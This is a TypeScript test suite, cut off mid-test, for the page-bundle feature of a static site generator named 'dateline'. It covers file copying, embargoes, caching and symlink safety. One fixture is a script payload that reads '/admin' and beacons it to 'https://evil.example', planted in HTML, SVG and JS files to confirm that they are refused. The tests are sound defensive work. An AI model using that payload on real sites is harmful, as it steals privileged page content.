import { existsSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Manifest } from '../../src/publish/manifest.js';
import { cli, coldBuild, dateline, md, site, tree, writeSite } from '../helpers/site.js';
import { jpeg, photo, png } from '../helpers/photos.js';

/**
 * Page bundles, as Hugo and Eleventy keep a story: `flood-defences/index.md` with its photos and
 * documents beside it, referenced relatively. They are published beside the story's page.
 */

const config = (baseUrl = 'https://news.example.org/') => `import { defineConfig } from 'dateline';
export default defineConfig({ title: 'Test Herald', baseUrl: '${baseUrl}', timeZone: 'Asia/Shanghai' });
`;

/** A photo's bytes that no text encoding would keep: copied byte for byte or not at all. */
const JPEG = (() => {
  const real = jpeg(1600, 900);
  // A comment segment (0xFFFE) holding them, before the frame: still a photo dateline can read.
  return Buffer.concat([real.subarray(0, 2), Buffer.from([0xff, 0xfe, 0x00, 0x08, 0x80, 0xfe, 0x0d, 0x0a, 0xc3, 0x28]), real.subarray(2)]);
})();
const CROP = photo(1);
const PLAN = png(300, 200);
const MAYOR = photo(2);
const PDF = Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', 'latin1');

const BUNDLE = 'content/articles/2024/flood-defences';
const FLOOD = md(
  { title: 'Flood defences approved', date: '2024-06-30 10:00', author: 'Li Wei', summary: 'The wall is approved.', image: { src: 'river.jpg', alt: 'The river at the wall', crops: ['crops/river-16x9.jpg'] } },
  'The council approved the wall.\n\n![Flood wall](river.jpg "The wall at dusk")\n\nRead [the report](docs/map.pdf) or see <img src="./docs/plan.png" alt="The plan">.',
);
const FLOOD_DIR = '2024/06/30/flood-defences/';

/** A site with one bundle (photos at two depths, a document), a loose photo and a plain story. */
function bundleSite(baseUrl?: string, extra: Record<string, string | Uint8Array> = {}): string {
  const dir = writeSite({
    'dateline.config.ts': config(baseUrl),
    [`${BUNDLE}/index.md`]: FLOOD,
    [`${BUNDLE}/crops/river-16x9.jpg`]: CROP,
    [`${BUNDLE}/docs/plan.png`]: PLAN,
    'content/articles/plain.md': md({ title: 'Port reopens', date: '2024-06-29 09:00', author: 'Li Wei' }, 'Ships are back.'),
    'content/articles/loose.jpg': 'a photo beside a story that is no bundle',
    ...extra,
  });
  writeFileSync(path.join(dir, BUNDLE, 'river.jpg'), JPEG);
  writeFileSync(path.join(dir, BUNDLE, 'docs/map.pdf'), PDF);
  return dir;
}

const NOW = ['--now', '2025-01-01T00:00:00Z'];
const present = (dir: string) => (p: string) => existsSync(path.join(dir, ...p.split('/')));

describe('page bundles: a story\'s files are published beside it', () => {
  it('dateline build copies every file of the bundle, byte for byte, into the story\'s folder, and warns only about a loose file', async () => {
    const dir = bundleSite();
    const r = await dateline(['build', dir, ...NOW]);
    expect(r.code, r.stderr).toBe(0);
    const out = path.join(dir, 'dist');
    expect(readFileSync(path.join(out, FLOOD_DIR, 'river.jpg')).equals(JPEG)).toBe(true);
    expect(readFileSync(path.join(out, FLOOD_DIR, 'docs/map.pdf')).equals(PDF)).toBe(true);
    expect(readFileSync(path.join(out, FLOOD_DIR, 'crops/river-16x9.jpg')).equals(CROP)).toBe(true);
    expect(readFileSync(path.join(out, FLOOD_DIR, 'docs/plan.png')).equals(PLAN)).toBe(true);
    // Nowhere else: not under content/'s own path, not as index.md.
    expect(present(out)('articles/2024/flood-defences/river.jpg')).toBe(false);
    expect(present(out)(`${FLOOD_DIR}index.md`)).toBe(false);
    // The bundle's files are content now; a photo beside a story that is not a bundle is still left out.
    expect(r.stderr).not.toContain('flood-defences/river.jpg');
    expect(r.stderr).not.toContain('NOT_PUBLISHED] content/articles/2024');
    expect(r.stderr).toContain('warning[NOT_PUBLISHED] content/articles/loose.jpg');
    expect(r.stderr.match(/^warning\[/gm)).toHaveLength(1);
  });

  it('relative references become the files\' URLs: the page, its share image and JSON-LD, listings and every feed', async () => {
    const s = await site({ 'dateline.config.ts': config(), [`${BUNDLE}/index.md`]: FLOOD, [`${BUNDLE}/river.jpg`]: JPEG, [`${BUNDLE}/crops/river-16x9.jpg`]: CROP, [`${BUNDLE}/docs/map.pdf`]: 'pdf', [`${BUNDLE}/docs/plan.png`]: PLAN });
    expect(s.diagnostics).toEqual([]);
    const page = s.page(`${FLOOD_DIR}index.html`);
    const photo = `/${FLOOD_DIR}river.jpg`;
    const abs = `https://news.example.org${photo}`;
    expect(page).toContain(`<img src="${photo}" alt="The river at the wall" width="1600" height="900">`);
    expect(page).toContain(`<figure><img src="${photo}" width="1600" height="900" alt="Flood wall" loading="lazy" /><figcaption>The wall at dusk</figcaption></figure>`);
    expect(page).toContain(`<a href="/${FLOOD_DIR}docs/map.pdf">the report</a>`);
    expect(page).toContain(`<img src="/${FLOOD_DIR}docs/plan.png" width="300" height="200" alt="The plan" />`);
    expect(page).toContain(`<meta property="og:image" content="${abs}">`);
    expect(page).toContain(`<meta name="twitter:image" content="${abs}">`);
    const ld = JSON.parse(/<script type="application\/ld\+json">(.*?)<\/script>/s.exec(page)![1]) as { image: string[] };
    // The crop too is an ImageObject with the size read from its file.
    expect(ld.image).toEqual([{ '@type': 'ImageObject', url: abs, width: 1600, height: 900 }, { '@type': 'ImageObject', url: `https://news.example.org/${FLOOD_DIR}crops/river-16x9.jpg`, width: 1201, height: 675 }]);
    // The home page's card, away from the story's folder.
    expect(s.page('index.html')).toContain(`<img src="${photo}" alt="The river at the wall"`);
    // Feeds are read away from the site: every URL absolute, none relative.
    for (const feed of ['feed.xml', 'atom.xml', 'feed.json']) {
      const text = s.page(feed);
      expect(text, feed).toContain(abs);
      expect(text, feed).toContain(`https://news.example.org/${FLOOD_DIR}docs/map.pdf`);
      expect(text, feed).not.toMatch(/src=\\?"(?:\.\/)?(?:river|docs)/);
      expect(text, feed).not.toMatch(/(?:src|href)=(?:\\?"|&quot;)\//);
    }
    expect(s.copies!.get(`${FLOOD_DIR}river.jpg`)).toBe(path.join(s.dir, BUNDLE, 'river.jpg'));
  });

  it('under a base path (/news/), as a site path under /images/ is', async () => {
    const s = await site({ 'dateline.config.ts': config('https://example.org/news/'), [`${BUNDLE}/index.md`]: FLOOD, [`${BUNDLE}/river.jpg`]: JPEG, [`${BUNDLE}/crops/river-16x9.jpg`]: CROP, [`${BUNDLE}/docs/map.pdf`]: 'pdf', [`${BUNDLE}/docs/plan.png`]: PLAN });
    expect(s.diagnostics).toEqual([]);
    const page = s.page(`${FLOOD_DIR}index.html`);
    expect(page).toContain(`<img src="/news/${FLOOD_DIR}river.jpg" alt="The river at the wall" width="1600" height="900">`);
    expect(page).toContain(`<figure><img src="/news/${FLOOD_DIR}river.jpg" width="1600" height="900" alt="Flood wall"`);
    expect(page).toContain(`<a href="/news/${FLOOD_DIR}docs/map.pdf">`);
    expect(page).toContain(`<img src="/news/${FLOOD_DIR}docs/plan.png"`);
    expect(page).toContain(`<meta property="og:image" content="https://example.org/news/${FLOOD_DIR}river.jpg">`);
    expect(s.page('feed.xml')).toContain(`https://example.org/news/${FLOOD_DIR}river.jpg`);
    // The output folder is the base path's root.
    expect(s.copies!.has(`${FLOOD_DIR}river.jpg`)).toBe(true);
  });

  it('a nested bundle keeps its own files; a standalone page can be a bundle; another story in the folder is not one', async () => {
    const s = await site({
      'dateline.config.ts': config(),
      'content/articles/2024/series/index.md': md({ title: 'The series', date: '2024-05-01 09:00', author: 'Li Wei' }, '![Cover](cover.jpg)'),
      'content/articles/2024/series/cover.jpg': photo(3),
      'content/articles/2024/series/part-two/index.md': md({ title: 'Part two', date: '2024-05-02 09:00', author: 'Li Wei' }, '![Map](map.png)'),
      'content/articles/2024/series/part-two/map.png': photo(5),
      'content/articles/2024/series/extra/notes.txt': 'notes',
      'content/articles/2024/series/extra/chart.png': photo(6),
      'content/pages/team/index.md': md({ title: 'Our team' }, '![The team](team.jpg)'),
      'content/pages/team/team.jpg': photo(4),
    });
    expect(s.diagnostics).toEqual([]);
    expect([...s.copies!.keys()].filter((p) => !p.startsWith('theme/'))).toEqual(['2024/05/01/series/cover.jpg', '2024/05/01/series/extra/chart.png', '2024/05/02/part-two/map.png', 'team/team.jpg']);
    expect(s.page('team/index.html')).toContain('<img src="/team/team.jpg" width="1204" height="675" alt="The team" loading="lazy" />');
  });

  it('a reference to a file the bundle does not have is said at its line, with where to put the file', async () => {
    const s = await site({
      'dateline.config.ts': config(),
      [`${BUNDLE}/index.md`]: md({ title: 'Flood', date: '2024-06-30 10:00', author: 'Li Wei', image: { src: 'lead.jpg', alt: 'Lead' } }, 'Text.\n\n![The wall](river.jpg)\n\n[Report](docs/report.pdf)'),
      [`${BUNDLE}/river.jpg`]: JPEG,
    });
    expect(s.ok).toBe(true);
    const missing = s.diagnostics.filter((d) => d.code === 'BUNDLE_FILE_MISSING');
    expect(missing.map((d) => [d.severity, d.line, d.column, d.message, d.hint])).toEqual([
      ['warning', 5, 16, `lead.jpg is not in the story's folder ${BUNDLE}/: its page would show a broken photo at /${FLOOD_DIR}lead.jpg.`, `Put lead.jpg in ${BUNDLE}/ beside index.md, or correct the path (it is relative to that folder).`],
      ['warning', 12, 10, `docs/report.pdf is not in the story's folder ${BUNDLE}/: its page would show a broken link to a file at /${FLOOD_DIR}docs/report.pdf.`, `Put docs/report.pdf in ${BUNDLE}/ beside index.md, or correct the path (it is relative to that folder).`],
    ]);
    expect(missing[0].frame).toContain('> 5 | image: {"src":"lead.jpg","alt":"Lead"}\n    |                ^');
    expect(s.diagnostics).toHaveLength(2);
  });
});

describe('page bundles: embargo', () => {
  const scheduled = () =>
    bundleSite(undefined, {
      'content/articles/2025/scoop/index.md': md({ title: 'Mayor resigns', date: '2025-01-10 18:00', author: 'Li Wei', image: { src: 'mayor.jpg', alt: 'The mayor' } }, '![Letter](letter.jpg)'),
      'content/articles/2025/scoop/mayor.jpg': MAYOR,
      'content/articles/2025/scoop/letter.jpg': photo(7),
      'content/articles/2025/draft/index.md': md({ title: 'Draft', date: '2024-12-01 09:00', author: 'Li Wei', draft: true }, '![x](draft.jpg)'),
      'content/articles/2025/draft/draft.jpg': photo(8),
      'content/articles/2025/gone/index.md': md({ title: 'Road closure', date: '2024-12-01 09:00', expires: '2024-12-20 09:00', author: 'Li Wei' }, '![x](road.jpg)'),
      'content/articles/2025/gone/road.jpg': photo(9),
    });
  const SCOOP = ['2025/01/10/scoop/mayor.jpg', '2025/01/10/scoop/letter.jpg'];
  const HIDDEN = ['2024/12/01/draft/draft.jpg', '2024/12/01/gone/road.jpg'];

  it('a scheduled story\'s files wait for it, a draft\'s and an expired story\'s are not published, nor in the manifest; they come with --now past its date', async () => {
    const dir = scheduled();
    const before = path.join(dir, 'before');
    const manifest = path.join(dir, 'before.json');
    const r = await dateline(['build', dir, '--now', '2025-01-10T12:00:00+08:00', '--out', before, '--manifest', manifest]);
    expect(r.code, r.stderr).toBe(0);
    expect([...SCOOP, ...HIDDEN].filter(present(before))).toEqual([]);
    expect(present(before)(`${FLOOD_DIR}river.jpg`)).toBe(true);
    const listed = (JSON.parse(readFileSync(manifest, 'utf8')) as Manifest).files.map((f) => f.path);
    expect(listed).toContain(`${FLOOD_DIR}river.jpg`);
    expect(listed.filter((p) => p.includes('scoop') || p.includes('draft') || p.includes('gone'))).toEqual([]);
    expect([...tree(before)].filter(([, text]) => text.includes('scoop/')).map(([f]) => f)).toEqual([]);

    // The same folder, once the time has come (as the hourly build does): there, with its page.
    const after = await dateline(['build', dir, '--now', '2025-01-10T19:00:00+08:00', '--out', before]);
    expect(after.code, after.stderr).toBe(0);
    expect(SCOOP.filter(present(before))).toEqual(SCOOP);
    expect(readFileSync(path.join(before, '2025/01/10/scoop/mayor.jpg')).equals(MAYOR)).toBe(true);
    expect(HIDDEN.filter(present(before))).toEqual([]);
  });

  it('--drafts and --future previews publish them with their stories', async () => {
    const dir = scheduled();
    const out = path.join(dir, 'preview');
    const r = await dateline(['build', dir, '--now', '2025-01-10T12:00:00+08:00', '--drafts', '--future', '--out', out]);
    expect(r.code, r.stderr).toBe(0);
    expect([...SCOOP, '2024/12/01/draft/draft.jpg'].filter(present(out))).toEqual([...SCOOP, '2024/12/01/draft/draft.jpg']);
    expect(present(out)('2024/12/01/gone/road.jpg')).toBe(false);
  });
});

describe('page bundles: safety', () => {
  it('a name a static file has is an error naming the file; dist/ is untouched', async () => {
    const dir = bundleSite(undefined, { [`static/${FLOOD_DIR}docs/plan.png`]: 'static plan' });
    const r = await dateline(['build', dir, ...NOW]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`error[BUNDLE_COLLISION] ${BUNDLE}/docs/plan.png\n  ${BUNDLE}/docs/plan.png and the static file static/${FLOOD_DIR}docs/plan.png would both be written to /${FLOOD_DIR}docs/plan.png.\n  fix: Rename or move plan.png (or the other file), or give the story another URL.`);
    expect(existsSync(path.join(dir, 'dist'))).toBe(false);
  });

  it('an index.html beside index.md (an old export), a scheduled story\'s too, is not published and cannot replace the story\'s page', async () => {
    const dir = bundleSite(undefined, {
      [`${BUNDLE}/index.html`]: '<p>old export</p>',
      'content/articles/2025/scoop/index.md': md({ title: 'Mayor resigns', date: '2025-01-10 18:00', author: 'Li Wei' }),
      'content/articles/2025/scoop/index.html': '<p>old export</p>',
    });
    const r = await dateline(['build', dir, '--now', '2025-01-10T12:00:00+08:00']);
    expect(r.code, r.stderr).toBe(0);
    for (const f of [`${BUNDLE}/index.html`, 'content/articles/2025/scoop/index.html']) expect(r.stderr).toContain(`warning[NOT_PUBLISHED] ${f}\n  ${f} is not published: a page bundle publishes only photos, video, audio, captions and the documents its story links to, not a .html file.`);
    expect(readFileSync(path.join(dir, 'dist', FLOOD_DIR, 'index.html'), 'utf8')).toContain('Flood defences approved');
    expect([...tree(path.join(dir, 'dist')).values()].some((t) => t.includes('old export'))).toBe(false);
  });

  it('a symlink in a bundle is followed only to a file inside the story\'s own folder', async () => {
    const outside = mkdtempSync(path.join(tmpdir(), 'dateline-outside-'));
    writeFileSync(path.join(outside, 'secret.jpg'), 'secret');
    const dir = bundleSite();
    writeFileSync(path.join(dir, 'notes.jpg'), 'site folder, not content');
    symlinkSync(path.join(outside, 'secret.jpg'), path.join(dir, BUNDLE, 'outside.jpg'));
    symlinkSync(path.join(dir, 'notes.jpg'), path.join(dir, BUNDLE, 'site.jpg'));
    symlinkSync(path.join(dir, 'dateline.config.ts'), path.join(dir, BUNDLE, 'config.ts'));
    // In content/, but another story's: not this story's file.
    symlinkSync(path.join(dir, 'content/articles/loose.jpg'), path.join(dir, BUNDLE, 'linked.jpg'));
    symlinkSync('river.jpg', path.join(dir, BUNDLE, 'same-river.jpg'));
    const r = await dateline(['build', dir, ...NOW]);
    expect(r.code, r.stderr).toBe(0);
    const out = path.join(dir, 'dist', FLOOD_DIR);
    expect(['outside.jpg', 'site.jpg', 'config.ts', 'linked.jpg'].filter((f) => existsSync(path.join(out, f)))).toEqual([]);
    expect(readFileSync(path.join(out, 'same-river.jpg')).equals(JPEG)).toBe(true);
    for (const f of ['outside.jpg', 'site.jpg', 'config.ts', 'linked.jpg']) expect(r.stderr).toContain(`warning[SYMLINK_SKIPPED] ${BUNDLE}/${f}\n  A symlink that leads outside the story's folder is not followed.\n  fix: Copy the file into the story's folder instead of linking to it.`);
    expect(tree(path.join(dir, 'dist')).size).toBeGreaterThan(0);
    expect([...tree(path.join(dir, 'dist')).values()].some((t) => t === 'secret' || t.includes("defineConfig") || t.includes('a photo beside a story'))).toBe(false);
  });

  it('an alias redirect is unaffected: the old address redirects, and holds no copy of the files', async () => {
    const dir = bundleSite(undefined, { [`${BUNDLE}/index.md`]: FLOOD.replace('summary:', 'aliases: ["/news/2019/flood-defences.html", "/old/flood/"]\nsummary:') });
    const r = await dateline(['build', dir, ...NOW]);
    expect(r.code, r.stderr).toBe(0);
    const out = path.join(dir, 'dist');
    expect(readFileSync(path.join(out, 'old/flood/index.html'), 'utf8')).toContain(`/${FLOOD_DIR}`);
    expect(existsSync(path.join(out, 'news/2019/flood-defences.html'))).toBe(true);
    expect(existsSync(path.join(out, 'old/flood/river.jpg'))).toBe(false);
    expect(existsSync(path.join(out, FLOOD_DIR, 'river.jpg'))).toBe(true);
  });

  it('a section spelt two ways whose slugs differ, with {section} in the URL: an error at the section, not photos looked for in the wrong folder', async () => {
    const cfg = `import { defineConfig } from 'dateline';
export default defineConfig({ title: 'T', baseUrl: 'https://news.example.org/', timeZone: 'Asia/Shanghai', permalinks: { article: '/{section}/{slug}/' } });
`;
    const s = await site({
      'dateline.config.ts': cfg,
      'content/articles/a.md': md({ title: 'First', date: '2024-06-01', author: 'Li Wei', section: 'Straße' }),
      'content/articles/b/index.md': md({ title: 'Second', date: '2024-06-02', author: 'Li Wei', section: 'STRASSE' }, '![x](x.jpg)'),
      'content/articles/b/x.jpg': 'x',
      'content/articles/c/index.md': md({ title: 'Third', date: '2024-06-02', author: 'Li Wei', section: 'Straße' }, '![x](x.jpg)'),
      'content/articles/c/x.jpg': 'x',
    });
    const bad = s.diagnostics.filter((d) => d.severity === 'error');
    expect(bad.map((d) => [d.code, d.file, d.line])).toEqual([['BUNDLE_URL', 'content/articles/b/index.md', 5]]);
    expect(bad[0].message).toBe('content/articles/b/index.md is published at /straße/b/, but its files\' addresses were made for /strasse/b/: another article spells its section "STRASSE" another way, and that spelling names the section\'s page.');
  });
});

describe('page bundles: cache, check, shards', () => {
  it('a warm build after adding, changing or deleting a bundle file, or moving the story, equals a cold build', async () => {
    const dir = bundleSite();
    const out = path.join(dir, 'dist');
    const expectWarmEqualsCold = async (what: string) => {
      const warm = await dateline(['build', dir, '--out', out, ...NOW]);
      expect(warm.code, `${what}: ${warm.stderr}`).toBe(0);
      const coldOut = path.join(mkdtempSync(path.join(tmpdir(), 'dateline-cold-')), 'dist');
      await coldBuild(dir, coldOut, { now: NOW[1] });
      expect(tree(out), what).toEqual(tree(coldOut));
    };
    await expectWarmEqualsCold('first');
    expect(existsSync(path.join(dir, '.dateline-cache'))).toBe(true);
    // The same size, so that only the time tells it changed.
    writeFileSync(path.join(dir, BUNDLE, 'river.jpg'), Buffer.from(JPEG.map((b) => b ^ 1)));
    await expectWarmEqualsCold('changed');
    expect(readFileSync(path.join(out, FLOOD_DIR, 'river.jpg')).equals(Buffer.from(JPEG.map((b) => b ^ 1)))).toBe(true);
    writeFileSync(path.join(dir, BUNDLE, 'docs/new.png'), 'png');
    await expectWarmEqualsCold('added');
    expect(readFileSync(path.join(out, FLOOD_DIR, 'docs/new.png'), 'utf8')).toBe('png');
    // A document is published once the story links to it, and goes when the link does.
    writeFileSync(path.join(dir, BUNDLE, 'docs/data.csv'), 'a,b\n');
    await expectWarmEqualsCold('a document no story links to');
    expect(existsSync(path.join(out, FLOOD_DIR, 'docs/data.csv'))).toBe(false);
    writeFileSync(path.join(dir, BUNDLE, 'index.md'), `${FLOOD}\nThe [data](docs/data.csv).\n`);
    await expectWarmEqualsCold('linked');
    expect(readFileSync(path.join(out, FLOOD_DIR, 'docs/data.csv'), 'utf8')).toBe('a,b\n');
    writeFileSync(path.join(dir, BUNDLE, 'index.md'), FLOOD);
    await expectWarmEqualsCold('unlinked');
    expect(existsSync(path.join(out, FLOOD_DIR, 'docs/data.csv'))).toBe(false);
    rmSync(path.join(dir, BUNDLE, 'docs/map.pdf'));
    await expectWarmEqualsCold('deleted');
    expect(existsSync(path.join(out, FLOOD_DIR, 'docs/map.pdf'))).toBe(false);
    // A new date moves the page, and the files with it.
    writeFileSync(path.join(dir, BUNDLE, 'index.md'), FLOOD.replace('2024-06-30 10:00', '2024-07-01 10:00'));
    await expectWarmEqualsCold('moved');
    expect(existsSync(path.join(out, FLOOD_DIR))).toBe(false);
    expect(existsSync(path.join(out, '2024/07/01/flood-defences/river.jpg'))).toBe(true);
  });

  it('a cached build after a body edit resumes the last plan, with the bundle\'s files counted', async () => {
    const dir = bundleSite();
    const json = async () => {
      const r = await dateline(['build', dir, '--json', ...NOW]);
      expect(r.code, r.stderr).toBe(0);
      return JSON.parse(r.stdout) as { timings: Record<string, number> };
    };
    await json();
    writeFileSync(path.join(dir, BUNDLE, 'index.md'), FLOOD.replace('The council approved the wall.', 'The council approved the new wall.'));
    expect(Object.keys((await json()).timings)).toContain('resume');
    expect(readFileSync(path.join(dir, 'dist', FLOOD_DIR, 'index.html'), 'utf8')).toContain('the new wall');
    // A bundle file changed: the full path, which copies it.
    writeFileSync(path.join(dir, BUNDLE, 'docs/plan.png'), 'plan, v2');
    expect(Object.keys((await json()).timings)).not.toContain('resume');
    expect(readFileSync(path.join(dir, 'dist', FLOOD_DIR, 'docs/plan.png'), 'utf8')).toBe('plan, v2');
  });

  it('dateline check follows links to bundle files, and says a missing one once, as an error at its line', async () => {
    const dir = bundleSite(undefined, { 'content/pages/privacy-cookie-policy.md': md({ title: 'Privacy' }) });
    const ok = await dateline(['check', dir, ...NOW]);
    expect(ok.stderr).toBe('warning[NOT_PUBLISHED] content/articles/loose.jpg\n  content/articles/loose.jpg is not published: files in content/ other than .md files are not copied to the site.\n  fix: Move it into static/ (static/images/loose.jpg is published as /images/loose.jpg) and link to it there.\n');
    expect(ok.code).toBe(0);
    rmSync(path.join(dir, BUNDLE, 'docs/plan.png'));
    const bad = await dateline(['check', dir, ...NOW]);
    expect(bad.code).toBe(1);
    expect(bad.stderr).not.toContain('BROKEN_LINK');
    expect(bad.stderr.match(/^error\[/gm)).toHaveLength(1);
    expect(bad.stderr).toContain(`error[BUNDLE_FILE_MISSING] ${BUNDLE}/index.md:13:50\n  docs/plan.png is not in the story's folder ${BUNDLE}/: its page would show a broken photo at /${FLOOD_DIR}docs/plan.png.`);
    // A build says it too, as a warning.
    const built = await dateline(['build', dir, ...NOW]);
    expect(built.code).toBe(0);
    expect(built.stderr).toContain(`warning[BUNDLE_FILE_MISSING] ${BUNDLE}/index.md:13:50`);
    // A relative link out of the folder is the link checker's, at its line as written.
    writeFileSync(path.join(dir, BUNDLE, 'docs/plan.png'), PLAN);
    writeFileSync(path.join(dir, BUNDLE, 'index.md'), `${FLOOD}\nThe [old map](../old/map.pdf).\n`);
    const out = await dateline(['check', dir, ...NOW]);
    expect(out.code).toBe(1);
    expect(out.stderr).toContain(`error[BROKEN_LINK] ${BUNDLE}/index.md:15:15\n  /${FLOOD_DIR}index.html links to /2024/06/30/old/map.pdf, which does not exist.`);
  });

  it('--shard i/n and merge give the dist/ of one build: the bundle files are written by one shard', async () => {
    const dir = bundleSite();
    const tmp = mkdtempSync(path.join(tmpdir(), 'dateline-shard-'));
    expect((await dateline(['build', dir, '--out', path.join(tmp, 'single'), ...NOW])).code).toBe(0);
    for (const i of [1, 2]) expect((await dateline(['build', dir, '--shard', `${i}/2`, '--out', path.join(tmp, `s${i}`), ...NOW])).code).toBe(0);
    expect(existsSync(path.join(tmp, 's1', FLOOD_DIR, 'river.jpg'))).not.toBe(existsSync(path.join(tmp, 's2', FLOOD_DIR, 'river.jpg')));
    const merged = await dateline(['merge', path.join(tmp, 'merged'), path.join(tmp, 's1'), path.join(tmp, 's2')]);
    expect(merged.code, merged.stderr).toBe(0);
    expect(tree(path.join(tmp, 'merged'))).toEqual(tree(path.join(tmp, 'single')));
    expect(readFileSync(path.join(tmp, 'merged', FLOOD_DIR, 'river.jpg')).equals(JPEG)).toBe(true);
  });
});

describe('page bundles: only what a story may publish', () => {
  it('an editor\'s backups and a file manager\'s files beside index.md are skipped without a word', async () => {
    const story = md({ title: 'Flood', date: '2024-06-30 10:00', author: 'Li Wei' }, '![Wall](river.jpg)');
    const leftovers = ['index.md~', '#index.md#', '.#index.md', 'index.md.bak', 'index.md.orig', 'index.md.swp', '.index.md.swp', 'index.md.old', 'Thumbs.db', '.DS_Store', 'desktop.ini', 'docs/draft.md.bak'];
    const s = await site({
      'dateline.config.ts': config(),
      [`${BUNDLE}/index.md`]: story,
      [`${BUNDLE}/river.jpg`]: JPEG,
      ...Object.fromEntries(leftovers.map((f) => [`${BUNDLE}/${f}`, story])),
    });
    expect(s.diagnostics).toEqual([]);
    expect([...s.copies!.keys()].filter((p) => !p.startsWith('theme/'))).toEqual([`${FLOOD_DIR}river.jpg`]);
  });

  it('a symlink to an embargoed story\'s source, a _private file or a story\'s own index.md is not followed, even under a photo\'s name', async () => {
    const dir = bundleSite(undefined, {
      'content/articles/2030/secret.md': md({ title: 'Embargoed', date: '2030-01-01 09:00', author: 'Li Wei' }, 'EMBARGOED SCOOP'),
      'content/_private/notes.txt': 'PRIVATE NOTES',
      [`${BUNDLE}/_private/source.jpg`]: 'PRIVATE SOURCE',
      [`${BUNDLE}/.hidden/face.jpg`]: 'HIDDEN FACE',
    });
    const links: Record<string, string> = {
      'secret.txt': '../../2030/secret.md',
      'secret.jpg': '../../2030/secret.md',
      'notes.txt': '../../../_private/notes.txt',
      'source.jpg': '_private/source.jpg',
      'face.jpg': '.hidden/face.jpg',
      'story.jpg': 'index.md',
    };
    for (const [name, target] of Object.entries(links)) symlinkSync(target, path.join(dir, BUNDLE, name));
    const r = await dateline(['build', dir, ...NOW]);
    expect(r.code, r.stderr).toBe(0);
    const out = path.join(dir, 'dist', FLOOD_DIR);
    expect(Object.keys(links).filter((f) => existsSync(path.join(out, f)))).toEqual([]);
    expect([...tree(path.join(dir, 'dist')).values()].some((t) => /EMBARGOED|PRIVATE|HIDDEN|Flood defences approved\n/.test(t) && !t.startsWith('<'))).toBe(false);
    for (const f of ['secret.txt', 'secret.jpg', 'notes.txt']) expect(r.stderr).toContain(`warning[SYMLINK_SKIPPED] ${BUNDLE}/${f}\n  A symlink that leads outside the story's folder is not followed.`);
    expect(r.stderr).toContain(`warning[SYMLINK_SKIPPED] ${BUNDLE}/source.jpg\n  A symlink into "_private" is not followed: a file or folder whose name starts with "_" or "." is never published.`);
    expect(r.stderr).toContain(`warning[SYMLINK_SKIPPED] ${BUNDLE}/face.jpg\n  A symlink into ".hidden" is not followed`);
    expect(r.stderr).toContain(`warning[SYMLINK_SKIPPED] ${BUNDLE}/story.jpg\n  A symlink to a Markdown file is not followed: a story's source is never published.`);
    // --strict: each is an error, and nothing is published.
    const strict = await dateline(['build', dir, '--strict', ...NOW]);
    expect(strict.code).toBe(1);
    expect(strict.stderr).toContain(`error[SYMLINK_SKIPPED] ${BUNDLE}/secret.txt`);
  });

  it('html, svg, js, css and the like are not published, from any depth, each with a warning; --strict fails the build (the real bin)', async () => {
    const script = '<script>fetch("/admin").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script>';
    const refused = ['graphic.html', 'chart.svg', 'app.js', 'docs/index.html', 'docs/page.htm', 'feed.xml', 'style.css', 'mod.mjs', 'page.xhtml', 'old.swf', 'run.php', 'chart.svgz'];
    const dir = bundleSite(undefined, Object.fromEntries(refused.map((f) => [`${BUNDLE}/${f}`, f.endsWith('.svg') ? `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>` : script])));
    const r = await cli(['build', dir, ...NOW]);
    expect(r.code, r.stderr).toBe(0);
    const out = path.join(dir, 'dist', FLOOD_DIR);
    expect(refused.filter((f) => existsSync(path.join(out, f)))).toEqual([]);
    expect([...tree(path.join(dir, 'dist')).values()].some((t) => t.includes('evil.example'))).toBe(false);
    // old.swf has a vim swap file's name (.swa to .swp): skipped without a word, as an editor's leftover.
    for (const f of refused.filter((n) => n !== 'old.swf')) {
      const ext = f.slice(f.lastIndexOf('.'));
      expect(r.stderr).toContain(`warning[NOT_PUBLISHED] ${BUNDLE}/${f}\n  ${BUNDLE}/${f} is not published: a page bundle publishes only photos, video, audio, captions and the documents its story links to, not a ${ext} file.\n  fix: A file the site trusts goes in static/`);
    }
    // The photos and the linked document are published as before.
    expect(readFileSync(path.join(out, 'river.jpg')).equals(JPEG)).toBe(true);
    expect(existsSync(path.join(out, 'docs/map.pdf'))).toBe(true);
    const strict = await cli(['build', dir, '--strict', ...NOW]);
    expect(strict.code).toBe(1);
    expect(strict.stderr).toContain(`error[NOT_PUBLISHED] ${BUNDLE}/graphic.html`);
  });

  it('media are published whether or not the story shows them; a document only when the story links to it', async () => {
    const s = await site({
      'dateline.config.ts': config(),
      [`${BUNDLE}/index.md`]: md(
        { title: 'Flood', date: '2024-06-30 10:00', author: 'Li Wei', image: { src: 'lead.jpg', alt: 'Lead' } },
        'Read [the report](docs/report.pdf), [the data](data.csv?v=2) and <a href="./transcript.txt">the transcript</a>.\n\n<video src="clip.mp4" poster="poster.png"></video>',
      ),
      ...Object.fromEntries(['lead.jpg', 'clip.mp4', 'poster.png', 'unused.webp', 'sound.mp3', 'captions.vtt', 'docs/report.pdf', 'data.csv', 'transcript.txt', 'notes.txt', 'interview.docx', 'budget.xlsx', 'draft.odt', 'letter.rtf', 'archive.zip', 'slides.pptx'].map((f, i) => [`${BUNDLE}/${f}`, /\.(jpg|png|webp)$/.test(f) ? photo(i) : f])),
    });
    expect(s.diagnostics).toEqual([]);
    expect([...s.copies!.keys()].filter((p) => p.startsWith(FLOOD_DIR)).map((p) => p.slice(FLOOD_DIR.length)).sort()).toEqual(
      ['captions.vtt', 'clip.mp4', 'data.csv', 'docs/report.pdf', 'lead.jpg', 'poster.png', 'sound.mp3', 'transcript.txt', 'unused.webp'],
    );
  });

  it('a missing video is a broken video or audio, a missing document a broken link to a file; a refused file the story shows is said to be there but not published', async () => {
    const s = await site({
      'dateline.config.ts': config(),
      [`${BUNDLE}/index.md`]: md({ title: 'Flood', date: '2024-06-30 10:00', author: 'Li Wei' }, '<video src="clip.mp4"></video>\n\n[Minutes](minutes.docx)\n\n![Chart](chart.svg)'),
      [`${BUNDLE}/chart.svg`]: '<svg/>',
    });
    const said = s.diagnostics.filter((d) => d.code === 'BUNDLE_FILE_MISSING').map((d) => d.message);
    expect(said).toEqual([
